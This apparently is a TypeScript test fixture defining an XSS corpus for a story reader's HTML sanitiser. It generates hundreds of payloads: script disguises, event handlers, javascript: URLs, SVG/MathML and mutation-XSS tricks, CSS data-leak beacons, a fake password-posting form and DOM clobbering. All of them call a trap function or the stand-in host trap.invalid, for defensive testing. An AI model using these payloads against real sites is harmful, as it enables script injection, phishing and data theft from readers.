/**
 * The XSS corpus (issue 7): hostile markup a story page could carry, written
 * for FicShelf from the classes of attack the issue lists. Every vector that
 * runs code calls `__ficshelfPwned('<name>', this)` (the e2e trap records it);
 * every vector that loads something asks `https://trap.invalid/<name>` (the
 * e2e router records it). Plain `<img src>` of a trap is left out on purpose:
 * an image on an https address is legitimate story content.
 *
 * Meta refresh vectors wait an hour, so the hostile page itself does not
 * navigate away during a test; the sanitiser must still drop them.
 */

export interface XssVector {
  name: string;
  /** The attack class, for the report. */
  family: string;
  html: string;
}

export const TRAP_HOST = 'trap.invalid';
export const TRAP_FUNCTION = '__ficshelfPwned';

/** The code a vector runs: a call the trap records (the element, where there is one). */
export const run = (name: string): string => `${TRAP_FUNCTION}('${name}',this)`;
/** The address a vector loads. */
export const trap = (name: string): string => `https://${TRAP_HOST}/${name}`;

const vectors: XssVector[] = [];
const add = (family: string, name: string, html: string) => vectors.push({ family, name, html });

/* Script tags in every disguise. */
const scripts: Array<[string, (n: string) => string]> = [
  ['plain', (n) => `<script>${run(n)}</script>`],
  ['upper-case', (n) => `<SCRIPT>${run(n)}</SCRIPT>`],
  ['mixed-case', (n) => `<ScRiPt>${run(n)}</sCrIpT>`],
  ['type-module', (n) => `<script type="module">${run(n)}</script>`],
  ['type-text-javascript', (n) => `<script type="text/javascript">${run(n)}</script>`],
  ['language-attr', (n) => `<script language="javascript">${run(n)}</script>`],
  ['src-trap', (n) => `<script src="${trap(n)}"></script>`],
  ['src-data', (n) => `<script src="data:text/javascript,${run(n)}"></script>`],
  ['slash-separator', (n) => `<script/x>${run(n)}</script>`],
  ['newline-in-tag', (n) => `<script\n>${run(n)}</script\n>`],
  ['unclosed-at-end', (n) => `<p>x</p><script>${run(n)}//`],
  ['in-comment-close', (n) => `<!--><script>${run(n)}</script>-->`],
  ['cdata-wrap', (n) => `<![CDATA[<script>${run(n)}</script>]]>`],
  ['split-by-null', (n) => `<scr\u0000ipt>${run(n)}</script>`],
  ['nested-broken', (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`],
  ['double-open', (n) => `<<script>${run(n)};//<</script>`],
  ['in-table', (n) => `<table><script>${run(n)}</script></table>`],
  ['in-select', (n) => `<select><script>${run(n)}</script></select>`],
  ['svg-script', (n) => `<svg><script>${run(n)}</script></svg>`],
  ['svg-script-href', (n) => `<svg><script href="data:,${run(n)}"/></svg>`],
  ['xlink-script', (n) => `<svg><script xlink:href="${trap(n)}"></script></svg>`],
  ['entity-in-svg-script', (n) => `<svg><script>&#x5f;&#x5f;ficshelfPwned('${n}')</script></svg>`],
  ['noscript-break-out', (n) => `<noscript><p title="</noscript><script>${run(n)}</script>">`],
  ['event-attr-on-script', (n) => `<script onload="${run(n)}" src="${trap(n)}"></script>`],
];
for (const [label, make] of scripts) add('script', `script-${label}`, make(`script-${label}`));

/* Event handlers on elements that fire them without a click. */
const selfFiring: Array<[string, (n: string) => string]> = [
  ['img-onerror', (n) => `<img src=x onerror="${run(n)}">`],
  ['img-onerror-unquoted', (n) => `<img src=x onerror=${TRAP_FUNCTION}('${n}')>`],
  ['img-onerror-backtick-src', (n) => `<img src=\`x\` onerror="${run(n)}">`],
  ['img-onload-data', (n) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run(n)}">`],
  ['image-tag', (n) => `<image src=x onerror="${run(n)}">`],
  ['body-onload', (n) => `<body onload="${run(n)}">`],
  ['body-onpageshow', (n) => `<body onpageshow="${run(n)}">`],
  ['svg-onload', (n) => `<svg onload="${run(n)}"></svg>`],
  ['svg-slash-onload', (n) => `<svg/onload=${TRAP_FUNCTION}('${n}')>`],
  ['input-autofocus', (n) => `<input autofocus onfocus="${run(n)}">`],
  ['textarea-autofocus', (n) => `<textarea autofocus onfocus="${run(n)}"></textarea>`],
  ['select-autofocus', (n) => `<select autofocus onfocus="${run(n)}"></select>`],
  ['button-autofocus', (n) => `<button autofocus onfocus="${run(n)}">b</button>`],
  ['details-ontoggle', (n) => `<details open ontoggle="${run(n)}"><summary>s</summary></details>`],
  ['video-onerror', (n) => `<video src=x onerror="${run(n)}"></video>`],
  ['video-source-onerror', (n) => `<video><source onerror="${run(n)}"></video>`],
  ['audio-onerror', (n) => `<audio src=x onerror="${run(n)}"></audio>`],
  ['iframe-onload', (n) => `<iframe onload="${run(n)}"></iframe>`],
  ['object-onerror', (n) => `<object data=x onerror="${run(n)}"></object>`],
  ['style-onload', (n) => `<style onload="${run(n)}"></style>`],
  ['link-onload', (n) => `<link rel=stylesheet href="${trap(n)}" onload="${run(n)}" onerror="${run(n)}">`],
  ['marquee-onstart', (n) => `<marquee onstart="${run(n)}">m</marquee>`],
  ['div-tabindex-autofocus', (n) => `<div tabindex=1 autofocus onfocus="${run(n)}">d</div>`],
  ['animation-start', (n) => `<p style="animation-name:spin;animation-duration:1s" onanimationstart="${run(n)}">a</p>`],
  ['transition-end', (n) => `<p style="transition:color 1ms" ontransitionend="${run(n)}">t</p>`],
  ['table-background', (n) => `<table background="${trap(n)}" onerror="${run(n)}"><tr><td>t</td></tr></table>`],
  ['frameset-onload', (n) => `<frameset onload="${run(n)}"></frameset>`],
  ['keygen-autofocus', (n) => `<keygen autofocus onfocus="${run(n)}">`],
  ['form-oninput', (n) => `<form oninput="${run(n)}"><input autofocus value=x></form>`],
  ['onerror-on-unknown', (n) => `<x-tag onerror="${run(n)}"><img src=x></x-tag>`],
];
for (const [label, make] of selfFiring) add('event-handler', `handler-${label}`, make(`handler-${label}`));

/* Handlers a reader triggers by reading: hover, click, scroll, copy, on every kind of element a story uses. */
const readerElements = ['p', 'div', 'span', 'a', 'b', 'i', 'em', 'strong', 'blockquote', 'h1', 'h3', 'li', 'td', 'font', 'center', 'hr', 'br', 'img'];
const readerHandlers = ['onmouseover', 'onclick', 'onpointerenter', 'oncopy'];
for (const tag of readerElements) {
  for (const handler of readerHandlers) {
    const name = `handler-${tag}-${handler}`;
    const open = tag === 'td' ? '<table><tr>' : tag === 'li' ? '<ul>' : '';
    const close = tag === 'td' ? '</tr></table>' : tag === 'li' ? '</ul>' : '';
    const attrs = `${handler}="${run(name)}"${tag === 'a' ? ' href="#"' : ''}${tag === 'img' ? ' src="#"' : ''}`;
    const element = ['hr', 'br', 'img'].includes(tag) ? `<${tag} ${attrs}>` : `<${tag} ${attrs}>hover me</${tag}>`;
    add('event-handler', name, `${open}${element}${close}`);
  }
}

/* javascript:, vbscript: and data: URLs in every attribute that takes a URL. */
const schemes: Array<[string, (n: string) => string]> = [
  ['javascript', (n) => `javascript:${run(n)}`],
  ['javascript-case', (n) => `JaVaScRiPt:${run(n)}`],
  ['javascript-leading-space', (n) => ` \u0001javascript:${run(n)}`],
  ['javascript-tab', (n) => `java\tscript:${run(n)}`],
  ['javascript-entities', (n) => `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run(n)}`],
  ['javascript-hex-entities', (n) => `&#x6A;avascript&colon;${run(n)}`],
  ['vbscript', (n) => `vbscript:msgbox("${n}")`],
  ['data-html', (n) => `data:text/html,<script>${run(n)}</script>`],
  ['data-html-base64', () => `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`],
  ['data-svg', (n) => `data:image/svg+xml,<svg onload="${run(n)}"/>`],
];
const sinks: Array<[string, (url: string) => string]> = [
  ['a-href', (u) => `<a href="${u}">link</a>`],
  ['area-href', (u) => `<map name=m><area shape=rect coords=0,0,9,9 href="${u}"></map>`],
  ['iframe-src', (u) => `<iframe src="${u}"></iframe>`],
  ['form-action', (u) => `<form action="${u}"><input type=submit></form>`],
  ['button-formaction', (u) => `<form><button formaction="${u}">go</button></form>`],
  ['svg-a-xlink', (u) => `<svg><a xlink:href="${u}"><text x=1 y=9>x</text></a></svg>`],
  ['img-srcset', (u) => `<img src=x srcset="${u} 2x">`],
  ['object-data', (u) => `<object data="${u}"></object>`],
  ['embed-src', (u) => `<embed src="${u}">`],
];
for (const [scheme, url] of schemes) {
  for (const [sink, make] of sinks) {
    const name = `url-${scheme}-${sink}`;
    add('url', name, make(url(name)));
  }
}

/* SVG. */
const svg: Array<[string, (n: string) => string]> = [
  ['animate-href', (n) => `<svg><a><animate attributeName=href values="javascript:${run(n)}"/><text x=2 y=20>click</text></a></svg>`],
  ['animate-onbegin', (n) => `<svg><animate onbegin="${run(n)}" attributeName=x dur=1s></animate></svg>`],
  ['set-onbegin', (n) => `<svg><set onbegin="${run(n)}" attributeName=x to=1></set></svg>`],
  ['set-href', (n) => `<svg><a><set attributeName=href to="javascript:${run(n)}"/><text y=20>x</text></a></svg>`],
  ['foreignobject-img', (n) => `<svg><foreignObject><img src=x onerror="${run(n)}"></foreignObject></svg>`],
  ['foreignobject-iframe', (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.${run(n)}</script>"></iframe></foreignObject></svg>`],
  ['use-href-data', (n) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run(n)}'/></svg>#x"/></svg>`],
  ['use-href-trap', (n) => `<svg><use href="${trap(n)}#x"></use></svg>`],
  ['image-onerror', (n) => `<svg><image href=x onerror="${run(n)}"/></svg>`],
  ['feimage-trap', (n) => `<svg><filter id=f><feImage href="${trap(n)}"/></filter></svg>`],
  ['handler-element', (n) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run(n)}</handler></svg>`],
  ['desc-breakout', (n) => `<svg><desc><img src=x onerror="${run(n)}"></desc></svg>`],
  ['title-breakout', (n) => `<svg><title><img src=x onerror="${run(n)}"></title></svg>`],
  ['style-in-svg', (n) => `<svg><style>@import "${trap(n)}";</style></svg>`],
  ['xmlns-trick', (n) => `<svg xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${run(n)}"></svg>`],
];
for (const [label, make] of svg) add('svg', `svg-${label}`, make(`svg-${label}`));

/* MathML. */
const math: Array<[string, (n: string) => string]> = [
  ['href', (n) => `<math><mi href="javascript:${run(n)}">x</mi></math>`],
  ['maction', (n) => `<math><maction actiontype=statusline xlink:href="javascript:${run(n)}">x</maction></math>`],
  ['mtext-img', (n) => `<math><mtext><img src=x onerror="${run(n)}"></mtext></math>`],
  ['mtext-table-mglyph', (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${run(n)}">`],
  ['annotation-xml', (n) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${run(n)}"></annotation-xml></math>`],
  ['mi-style-breakout', (n) => `<math><mi><style><img src=x onerror="${run(n)}"></style></mi></math>`],
  ['semantics-svg', (n) => `<math><semantics><annotation-xml encoding="image/svg+xml"><svg onload="${run(n)}"/></annotation-xml></semantics></math>`],
];
for (const [label, make] of math) add('mathml', `math-${label}`, make(`math-${label}`));

/* Mutation XSS: markup that parses differently the second time it is parsed. */
const mutation: Array<[string, (n: string) => string]> = [
  ['noscript-title', (n) => `<noscript><p title="</noscript><img src=x onerror=${TRAP_FUNCTION}('${n}')>">`],
  ['style-comment', (n) => `<style><!--</style><img src=x onerror="${run(n)}">--></style>`],
  ['title-break', (n) => `<title><img src=x onerror="${run(n)}"></title>`],
  ['title-close-attr', (n) => `<title></title><a title="</title><img src=x onerror=${TRAP_FUNCTION}('${n}')>">x</a>`],
  ['textarea-break', (n) => `<textarea></textarea><a title="</textarea><img src=x onerror=${TRAP_FUNCTION}('${n}')>">x</a>`],
  ['textarea-content', (n) => `<textarea><img src=x onerror="${run(n)}"></textarea>`],
  ['template-content', (n) => `<template><img src=x onerror="${run(n)}"></template>`],
  ['template-in-table', (n) => `<table><template><img src=x onerror="${run(n)}"></template></table>`],
  ['xmp-break', (n) => `<xmp><img src=x onerror="${run(n)}"></xmp>`],
  ['iframe-text', (n) => `<iframe><img src=x onerror="${run(n)}"></iframe>`],
  ['noembed-break', (n) => `<noembed><img src=x onerror="${run(n)}"></noembed>`],
  ['noframes-break', (n) => `<noframes><img src=x onerror="${run(n)}"></noframes>`],
  ['svg-style-namespace', (n) => `<svg></p><style><a id="</style><img src=x onerror=${TRAP_FUNCTION}('${n}')>"></svg>`],
  ['math-style-namespace', (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${TRAP_FUNCTION}('${n}')&gt;">`],
  ['form-nesting', (n) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run(n)}">`],
  ['comment-in-attr', (n) => `<a title="<!--">x</a><img src=x onerror="${run(n)}">-->`],
  ['backtick-attr', (n) => `<img src="\`<img src=x onerror=${TRAP_FUNCTION}('${n}')>\`">`],
  ['select-template', (n) => `<select><template><img src=x onerror="${run(n)}"></template></select>`],
  ['plaintext-last', (n) => `<listing><img src=x onerror="${run(n)}"></listing>`],
  ['svg-cdata', (n) => `<svg><![CDATA[><img src=x onerror="${run(n)}">]]></svg>`],
];
for (const [label, make] of mutation) add('mutation', `mxss-${label}`, make(`mxss-${label}`));

/* CSS: beacons and old script hooks, in style attributes and <style>. */
const css: Array<[string, (n: string) => string]> = [
  ['attr-background-url', (n) => `<p style="background:url(${trap(n)})">x</p>`],
  ['attr-background-image-quoted', (n) => `<p style="background-image:url('${trap(n)}')">x</p>`],
  ['attr-image-set', (n) => `<p style="background-image:image-set('${trap(n)}' 1x)">x</p>`],
  ['attr-list-style', (n) => `<ul style="list-style:url(${trap(n)})"><li>x</li></ul>`],
  ['attr-cursor', (n) => `<p style="cursor:url(${trap(n)}),auto">x</p>`],
  ['attr-escaped-url', (n) => `<p style="background:u\\72l(${trap(n)})">x</p>`],
  ['attr-expression', (n) => `<p style="width:expression(${run(n)})">x</p>`],
  ['attr-behavior', (n) => `<p style="behavior:url(${trap(n)}.htc)">x</p>`],
  ['attr-moz-binding', (n) => `<p style="-moz-binding:url(${trap(n)}.xml#x)">x</p>`],
  ['style-import', (n) => `<style>@import url(${trap(n)});</style>`],
  ['style-font-face', (n) => `<style>@font-face{font-family:t;src:url(${trap(n)})}p{font-family:t}</style>`],
  ['style-attribute-selector', (n) => `<style>input[value^="a"]{background:url(${trap(n)})}</style><input value=abc>`],
  ['style-body-background', (n) => `<style>body{background:url(${trap(n)})}</style>`],
  ['style-image-set', (n) => `<style>p{background:image-set(url(${trap(n)}) 1x)}</style>`],
  ['style-hide-page', () => `<style>*{display:none!important}</style>`],
  ['link-stylesheet', (n) => `<link rel=stylesheet href="${trap(n)}">`],
  ['body-background-attr', (n) => `<body background="${trap(n)}">`],
  ['td-background-attr', (n) => `<table><tr><td background="${trap(n)}">x</td></tr></table>`],
];
for (const [label, make] of css) add('css', `css-${label}`, make(`css-${label}`));

/* Forms, meta refresh, base href. */
const pageTricks: Array<[string, (n: string) => string]> = [
  ['form-password-phish', (n) => `<form action="${trap(n)}" method=post><input type=password name=pw><button>Log in to keep reading</button></form>`],
  ['form-autosubmit', (n) => `<form id=f action="${trap(n)}"><input name=q autofocus onfocus="this.form.submit()"></form>`],
  ['input-image', (n) => `<input type=image src="${trap(n)}">`],
  ['meta-refresh-trap', (n) => `<meta http-equiv="refresh" content="3600;url=${trap(n)}">`],
  ['meta-refresh-javascript', (n) => `<meta http-equiv="refresh" content="0;url=javascript:${run(n)}">`],
  ['meta-refresh-data', (n) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run(n)}</script>">`],
  ['meta-csp-override', () => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`],
  ['base-href', (n) => `<base href="${trap(n)}/">`],
  ['base-javascript', (n) => `<base href="javascript:${run(n)}//"><a href="/x">x</a>`],
  ['a-ping', (n) => `<a href="https://example.org/" ping="${trap(n)}">ping</a>`],
  ['a-target-opener', (n) => `<a href="${trap(n)}" target="_blank">open</a>`],
  ['isindex', (n) => `<isindex action="${trap(n)}" type=image src=x onerror="${run(n)}">`],
];
for (const [label, make] of pageTricks) add('page-trick', `page-${label}`, make(`page-${label}`));

/* DOM clobbering: ids and names that would shadow globals the extension reads. */
const clobber: Array<[string, (n: string) => string]> = [
  ['trap-function', () => `<img name="${TRAP_FUNCTION}" src=x>`],
  ['chrome-runtime', () => `<a id=chrome><a id=chrome name=runtime href="https://example.org/">x</a></a>`],
  ['browser-global', () => `<form id=browser><input name=runtime></form>`],
  ['document-cookie', () => `<img name=cookie src=x><form name=cookie></form>`],
  ['document-body', () => `<img name=body src=x>`],
  ['getelementbyid', () => `<form name=getElementById></form><img name=querySelector src=x>`],
  ['ficshelf-root', () => `<div id="ficshelf-reader" data-ficshelf="reader">fake reader</div>`],
  ['default-view', () => `<iframe name=defaultView></iframe>`],
  ['location-href', (n) => `<a id=location href="${trap(n)}">x</a>`],
  ['html-dataset', () => `<div data-ficshelf="story" id=documentElement>x</div>`],
];
for (const [label, make] of clobber) add('dom-clobbering', `clobber-${label}`, make(`clobber-${label}`));

/* Frames, objects, embeds, imports and prefetches. */
const embeds: Array<[string, (n: string) => string]> = [
  ['iframe-srcdoc', (n) => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`],
  ['iframe-srcdoc-entities', (n) => `<iframe srcdoc="&lt;img src=x onerror=parent.${TRAP_FUNCTION}('${n}')&gt;"></iframe>`],
  ['iframe-trap', (n) => `<iframe src="${trap(n)}"></iframe>`],
  ['frame-trap', (n) => `<frameset><frame src="${trap(n)}"></frameset>`],
  ['object-trap', (n) => `<object data="${trap(n)}" type="text/html"></object>`],
  ['object-param', (n) => `<object><param name=src value="javascript:${run(n)}"></object>`],
  ['embed-trap', (n) => `<embed src="${trap(n)}" type="image/svg+xml">`],
  ['applet', (n) => `<applet code="${trap(n)}"></applet>`],
  ['link-import', (n) => `<link rel=import href="${trap(n)}">`],
  ['link-prefetch', (n) => `<link rel=prefetch href="${trap(n)}">`],
  ['link-preload', (n) => `<link rel=preload as=script href="${trap(n)}">`],
  ['link-modulepreload', (n) => `<link rel=modulepreload href="${trap(n)}">`],
  ['link-dns-prefetch', (n) => `<link rel=dns-prefetch href="//${n}.${TRAP_HOST}">`],
  ['portal', (n) => `<portal src="${trap(n)}"></portal>`],
  ['video-poster', (n) => `<video poster="${trap(n)}"></video>`],
  ['audio-src', (n) => `<audio autoplay src="${trap(n)}"></audio>`],
  ['track-src', (n) => `<video><track default src="${trap(n)}"></video>`],
  ['picture-source', (n) => `<picture><source srcset="${trap(n)}"><img src=x></picture>`],
];
for (const [label, make] of embeds) add('embed', `embed-${label}`, make(`embed-${label}`));

/* Encoded and case-mixed forms of the classics. */
const encoded: Array<[string, (n: string) => string]> = [
  ['entity-tag', (n) => `&lt;script&gt;${run(n)}&lt;/script&gt;`],
  ['entity-img', (n) => `&lt;img src=x onerror=${TRAP_FUNCTION}('${n}')&gt;`],
  ['double-encoded', (n) => `&amp;lt;script&amp;gt;${run(n)}&amp;lt;/script&amp;gt;`],
  ['case-img', (n) => `<IMG SRC=x OnErRoR="${run(n)}">`],
  ['case-svg', (n) => `<SvG OnLoAd="${run(n)}">`],
  ['decimal-handler', (n) => `<img src=x onerror="&#95;&#95;ficshelfPwned('${n}',this)">`],
  ['hex-handler', (n) => `<img src=x onerror="&#x5F;&#x5F;ficshelfPwned('${n}',this)">`],
  ['unicode-escape', (n) => `<img src=x onerror="\\u005f\\u005fficshelfPwned('${n}',this)">`],
  ['slash-attribute', (n) => `<img/src=x/onerror="${run(n)}">`],
  ['newline-attribute', (n) => `<img\nsrc=x\nonerror\n=\n"${run(n)}">`],
  ['no-space-attribute', (n) => `<img src="x"onerror="${run(n)}">`],
  ['utf7-like', (n) => `+ADw-script+AD4-${run(n)}+ADw-/script+AD4-`],
  ['fullwidth-brackets', (n) => `＜script＞${run(n)}＜/script＞`],
  ['overlong-utf8-lt', (n) => `\u00c0\u00bcscript\u00c0\u00be${run(n)}`],
];
for (const [label, make] of encoded) add('encoded', `encoded-${label}`, make(`encoded-${label}`));

export const VECTORS: readonly XssVector[] = vectors;

/** Families and their sizes, for the report. */
export function vectorFamilies(): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const v of VECTORS) counts[v.family] = (counts[v.family] ?? 0) + 1;
  return counts;
}
